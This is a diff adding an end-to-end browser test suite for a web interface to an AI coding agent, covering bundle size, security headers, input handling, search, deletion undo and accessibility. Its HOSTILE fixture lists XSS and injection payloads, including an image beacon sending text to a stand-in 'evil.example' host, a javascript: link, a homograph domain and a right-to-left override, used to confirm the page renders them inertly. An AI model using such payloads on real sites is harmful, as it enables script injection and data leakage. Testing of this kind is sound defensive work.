@@ -1,0 +1,219 @@
+/** What the page loads, asks for, shows and hides, and what it is for who uses no mouse. */
+import { readFileSync, readdirSync } from 'node:fs'
+import { join } from 'node:path'
+import { fileURLToPath } from 'node:url'
+import type { Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { faultsOf } from '../docs-search/page/look.ts'
+import { DESKTOP, PHONE, PageStage } from './stage.ts'
+
+const dist = fileURLToPath(new URL('../../dist/web', import.meta.url))
+const HOSTILE = [
+  '<img src=x onerror="window.evil=1">',
+  '<script>window.evil=1</script>',
+  '<svg onload="window.evil=1">',
+  '[click](javascript:window.evil=1)',
+  '![pixel](https://evil.example/p.png?all=said)',
+  '[safe.example](https://evil.example)',
+  '<iframe src="https://evil.example"></iframe>',
+  '<style>body{display:none}</style>',
+  'see https://xn--pple-43d.com and \u202eexe.txt',
+].join('\n\n')
+
+let stage: PageStage
+beforeAll(async () => {
+  stage = await PageStage.open()
+})
+afterAll(() => stage.close())
+
+describe('the files', () => {
+  const gzipped = (name: string): number => {
+    const path = readdirSync(dist, { recursive: true, encoding: 'utf8' }).find((one) => one.endsWith(`${name}.gz`))
+    return path === undefined ? Number.NaN : readFileSync(join(dist, path)).length
+  }
+
+  test('of the first load are at most 70 KB gzipped, the worker and the lazy parts are small', async () => {
+    const page = await stage.stranger()
+    stage.requested.clear()
+    await page.goto(stage.server.url)
+    await page.getByRole('heading', { name: 'Connect this device' }).waitFor()
+    const names = [...stage.requested]
+      .filter((one) => /\.(?:js|css)$/u.test(one))
+      .map((one) => one.split('/').slice(-2).join('/'))
+    const bytes = names.map(gzipped).reduce((sum, one) => sum + one, 0)
+    expect(names.length).toBeGreaterThan(1)
+    expect(bytes).toBeLessThanOrEqual(70 * 1024)
+    expect(gzipped('highlight.js')).toBeLessThanOrEqual(52 * 1024)
+    expect(gzipped('diff-view.js')).toBeLessThanOrEqual(25 * 1024)
+  })
+
+  test('come with the headers that hold the page together, compressed, and those with a hash for ever', async () => {
+    const shell = await fetch(stage.server.url)
+    const csp = shell.headers.get('content-security-policy') ?? ''
+    expect(csp).toBe(
+      "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' blob: data:; font-src 'self'; " +
+        "connect-src 'self'; worker-src 'self'; manifest-src 'self'; base-uri 'none'; form-action 'self'; " +
+        "frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types parley",
+    )
+    expect(shell.headers.get('referrer-policy')).toBe('no-referrer')
+    expect(shell.headers.get('x-content-type-options')).toBe('nosniff')
+    expect(shell.headers.get('cache-control')).toBe('no-cache')
+    const html = await shell.text()
+    expect(html).not.toMatch(/ (?:on\w+|style)=|<script>|<style|(?:src|href)="\//u)
+    const script = /src="\.\/(a\/[^"]+)"/u.exec(html)?.[1] ?? ''
+    const file = await fetch(stage.server.url + script, { headers: { 'Accept-Encoding': 'br' } })
+    expect(file.headers.get('cache-control')).toContain('immutable')
+    expect(file.headers.get('content-encoding')).toBe('br')
+    expect((await fetch(`${stage.server.url}a/..%2f..%2fpackage.json`)).status).toBe(404)
+  })
+})
+
+test('47, 48, 49: what an agent says runs nothing, loads nothing, and says where it leads', async () => {
+  stage.server.play([
+    { chunk: HOSTILE },
+    { toolCall: { toolCallId: 'h', title: '<b onclick=x()>\u202eevil', kind: 'read' } },
+    { chunk: '\n\nThe end.' },
+  ])
+  const page = await stage.device()
+  stage.requested.clear()
+  await stage.newSession(page, 'Be hostile.')
+  await page.getByText('The end.').waitFor()
+  expect(await page.evaluate('window.evil')).toBeUndefined()
+  expect([...stage.requested].filter((one) => !one.startsWith(stage.server.url))).toEqual([])
+  expect(await page.locator('.row').locator('img, script, iframe, style, svg:not(.icon)').count()).toBe(0)
+  expect(await page.locator('.answer a[href^="javascript"]').count()).toBe(0)
+  await page.getByText('(evil.example)').first().waitFor()
+  await page.locator('.call .unseen').getByText('U+202E').waitFor()
+})
+
+test('36: Enter that ends a word of an input method sends nothing', async () => {
+  stage.server.play([{ chunk: 'Got it.' }])
+  const page = await stage.device()
+  await stage.newSession(page)
+  const write = page.getByLabel('Message to the agent')
+  await write.fill('你好')
+  for (const init of ['{ isComposing: true }', '{ keyCode: 229 }'])
+    await write.evaluate(
+      (element, init) =>
+        element.dispatchEvent(
+          new KeyboardEvent('keydown', {
+            key: 'Enter',
+            bubbles: true,
+            ...(init.includes('229') ? { keyCode: 229 } : { isComposing: true }),
+          }),
+        ),
+      init,
+    )
+  expect(await write.inputValue()).toBe('你好')
+  await write.press('Enter')
+  await page.getByText('Got it.').waitFor()
+  expect(await page.locator('.prompt').count()).toBe(1)
+})
+
+test('37: on a phone Enter breaks the line, and a button sends', async () => {
+  stage.server.play([{ chunk: 'Got it.' }])
+  const page = await stage.device({ viewport: PHONE, hasTouch: true, isMobile: true })
+  await stage.newSession(page)
+  const write = page.getByLabel('Message to the agent')
+  await write.fill('one')
+  await write.press('Enter')
+  await write.pressSequentially('two')
+  expect(await write.inputValue()).toBe('one\ntwo')
+  await page.getByRole('button', { name: 'Send' }).tap()
+  await page.getByText('Got it.').waitFor()
+})
+
+test('57, 58: a double click makes one session; a directory that is not there is a sentence at the field', async () => {
+  stage.server.play([{ chunk: 'Here.' }])
+  const page = await stage.device()
+  await page.goto(`${stage.server.url}?new`)
+  await page.getByLabel('Directory on the server').fill('/no/such/place')
+  await page.getByRole('button', { name: 'Start session' }).click()
+  await page.getByRole('alert').waitFor()
+  expect(await page.getByLabel('Directory on the server').getAttribute('aria-invalid')).toBe('true')
+  await page.getByLabel('Directory on the server').fill(stage.server.work)
+  await page.getByLabel('First prompt').fill('Only one session, please.')
+  await page.getByRole('button', { name: 'Start session' }).dblclick()
+  await page.locator('.prompt', { hasText: 'Only one session, please.' }).waitFor()
+  await expect.poll(() => page.locator('.list li', { hasText: 'Only one session' }).count()).toBe(1)
+})
+
+test('51: a search finds what was said, in English and Chinese, and opens it there', async () => {
+  stage.server.play([{ chunk: 'The word is zanzibar. 磁盘阵列已恢复。' }])
+  const page = await stage.device()
+  await stage.newSession(page, 'Say it.')
+  await page.getByText('zanzibar').waitFor()
+  for (const query of ['zanzibar', '磁盘阵列']) {
+    await page.goto(`${stage.server.url}?search=${encodeURIComponent(query)}`)
+    await page.locator('.hits a').first().waitFor()
+    expect(await page.locator('.hits mark').first().innerText()).toBe(query)
+  }
+  await page.locator('.hits a').first().click()
+  await page.locator('.answer', { hasText: 'zanzibar' }).waitFor()
+  await page.goBack()
+  await page.locator('.hits a').first().waitFor()
+})
+
+test('56: a deletion can be undone, and until then nothing is sent', async () => {
+  stage.server.play([{ chunk: 'Keep me.' }])
+  const page = await stage.device()
+  await stage.newSession(page, 'To be deleted or not')
+  await page.getByText('Keep me.').waitFor()
+  await page.locator('.menu summary').click()
+  await page.getByRole('button', { name: 'Delete' }).click()
+  const row = page.locator('.list li', { hasText: 'To be deleted or not' })
+  await row.waitFor({ state: 'detached' })
+  await page.getByRole('button', { name: 'Undo' }).click()
+  await row.click()
+  await page.getByText('Keep me.').waitFor()
+})
+
+test('61: the code of a link is gone from the address and the history, and a wrong one is a sentence', async () => {
+  const page = await stage.stranger()
+  await page.goto(`${stage.server.url}#pair=${'x'.repeat(22)}`)
+  await page.getByRole('alert').waitFor()
+  expect(page.url()).toBe(stage.server.url)
+  expect([...stage.requested].filter((one) => one.includes('xxxx'))).toEqual([])
+  expect(await page.evaluate('history.length')).toBeLessThanOrEqual(2)
+})
+
+async function screens(page: Page): Promise<readonly string[]> {
+  const faults: string[] = []
+  for (const query of ['', '?new', '?search=zanzibar']) {
+    await page.goto(stage.server.url + query)
+    await page.locator('main, .list').locator('visible=true').first().waitFor()
+    faults.push(...(await faultsOf(page)).map((one) => `${query}: ${one}`))
+  }
+  stage.server.play([
+    { thought: 'Hm.' },
+    { chunk: '# Title\n\nText with `code`.\n\n```js\nlet x = 1\n```\n\n|a|b|\n|-|-|\n|1|2|\n' },
+    {
+      toolCall: {
+        toolCallId: 'f',
+        title: 'Broken',
+        kind: 'execute',
+        status: 'failed',
+        content: [{ type: 'content', content: { type: 'text', text: 'no' } }],
+      },
+    },
+    { permission: { title: 'May I?', toolCallId: 'p', rawInput: { command: 'ls' } } },
+  ])
+  await page.goto(`${stage.server.url}?new`)
+  await page.locator('#directory').fill(stage.server.work)
+  await page.locator('#first-prompt').fill('Show all')
+  await page.locator('button[type=submit]').click()
+  await page.locator('.dock .card').waitFor()
+  faults.push(...(await faultsOf(page)).map((one) => `session: ${one}`))
+  await page.locator('.dock .options button').last().click()
+  return faults
+}
+
+test.each([
+  { viewport: DESKTOP, colorScheme: 'light', locale: 'en-GB' },
+  { viewport: PHONE, colorScheme: 'dark', locale: 'zh-CN' },
+  { viewport: { width: 320, height: 640 }, colorScheme: 'light', locale: 'en-GB' },
+] as const)('72: no screen has a fault for who cannot see it well, and none is wider than it: %j', async (options) => {
+  expect(await screens(await stage.device(options))).toEqual([])
+})
+
+test('75: and no page has complained', () => expect(stage.complaints).toEqual([]))
